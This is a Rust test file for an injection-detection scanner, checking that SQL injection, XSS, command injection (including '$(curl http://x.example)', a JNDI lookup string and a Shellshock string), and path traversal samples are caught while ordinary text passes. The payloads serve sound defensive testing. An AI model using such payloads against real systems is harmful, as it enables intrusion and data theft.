//! What is found, and what is let through: whole lists where they are at hand.

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;

use std::sync::LazyLock;

use crate::scan::{Families, Hit, Scanner};

static SCANNER: LazyLock<Scanner> =
    LazyLock::new(|| Scanner::new(Families { sql: true, xss: true, command: true, path: true }).unwrap());

fn scan(value: &str) -> Option<Hit> {
    SCANNER.scan(value)
}

fn score(value: &str) -> u8 {
    scan(value).map_or(0, |hit| hit.score)
}

fn rule(value: &str) -> &'static str {
    scan(value).map_or("", |hit| hit.rule)
}

#[test]
fn attacks_are_named() {
    for (value, expected) in [
        ("1 union select null, version()", "sql-union"),
        ("1' UnIoN/**/SeLeCt 1,2-- -", "sql-union"),
        ("x'; drop table users; --", "sql-stacked"),
        ("' or '1'='1", "sql-tautology"),
        ("1 OR 1=1", "sql-tautology"),
        ("admin'--", "sql-comment-cut"),
        ("<script>alert(1)</script>", "xss-tag"),
        ("%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss-handler"),
        ("java\tscript:alert(1)", "xss-uri"),
        ("x; cat /etc/passwd", "cmd-chain"),
        ("$(curl http://x.example)", "cmd-subshell"),
        ("${jndi:ldap://x.example/a}", "cmd-expression"),
        ("() { :; }; echo x", "cmd-shellshock"),
        ("../../etc/hostname", "path-traversal"),
        ("..%2f..%2fsecret.txt", "path-traversal"),
    ] {
        assert_eq!(rule(value), expected, "{value}");
    }
}

#[test]
fn plain_values_pass() {
    for value in [
        "Ada Lovelace",
        "O'Brien",
        "rock'n'roll and pop",
        "it's 5 o'clock somewhere",
        "Terms & Conditions; see page 5",
        "select a colour from the list",
        "black or white",
        "a = b",
        "C++ (or C#) developer",
        "He said \"no\" and left",
        "price: 5-10 EUR -- negotiable",
        "/shop/orders?page=2",
        "Drop me a line; update the table set for four",
        "union of the two, selected by the jury",
        "100% cotton & wool",
        "wait... what?",
        "Jean-Luc; find out more",
        "2026-01-02T03:04:05Z",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
        "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
        "https://shop.example/basket?from=mail&id=5#top",
    ] {
        assert!(score(value) < 50, "{value}: {:?}", scan(value));
    }
}

#[test]
fn no_value_makes_it_fail_or_slow() {
    for unit in
        ["'", "\"", "(", "<", "%25", "&#", "../", "/*", "${", "`", "\u{ff1c}", "or ", "1=1 ", "union "]
    {
        let long = unit.repeat(20_000);
        let _ = scan(&long);
    }
}

/// Lines that are URL-encoded, as a query has them.
fn lines(folder: &str, file: &str) -> Vec<String> {
    let text = fs::read(PathBuf::from(folder).join("injection/libinjection").join(file)).unwrap_or_default();
    String::from_utf8_lossy(&text)
        .lines()
        .filter(|line| !line.trim().is_empty() && !line.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

#[test]
fn public_lists_of_attacks_are_found() {
    let Ok(folder) = std::env::var("PORTCULLIS_CONFORMANCE") else {
        println!("conformance data not found: 1 suites skipped");
        return;
    };
    let listed = PathBuf::from(&folder).join("injection/libinjection");
    let mut files: Vec<String> = fs::read_dir(listed)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.ends_with(".txt") && (name.starts_with("sqli") || name.starts_with("xss")))
        .collect();
    files.sort();
    let (mut all, mut found) = (0, 0);
    let mut missed: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for file in files {
        let lines = lines(&folder, &file);
        let hits = lines.iter().filter(|line| {
            let decoded = line.replace('+', " ");
            let hit = score(&decoded) >= 50;
            if !hit {
                missed.entry(file.clone()).or_default().push(decoded);
            }
            hit
        });
        let hits = hits.count();
        println!("{file}: {hits}/{}", lines.len());
        all += lines.len();
        found += hits;
    }
    let benign = lines(&folder, "false_positives.txt");
    let flagged: Vec<_> = benign.iter().filter(|line| score(&line.replace('+', " ")) >= 50).collect();
    println!("found {found} of {all}; flagged {} of {} benign", flagged.len(), benign.len());
    if std::env::var("SHOW_MISSED").is_ok() {
        for (file, missed) in &missed {
            for line in missed.iter().step_by(missed.len() / 25 + 1) {
                println!("MISSED {file}: {line}");
            }
        }
        for line in &flagged {
            println!("FLAGGED {line} {:?}", scan(&line.replace('+', " ")));
        }
    }
    assert!(found * 100 >= all * 90, "found {found} of {all}");
    assert!(flagged.len() * 100 <= benign.len() * 2, "{} of {}", flagged.len(), benign.len());
}
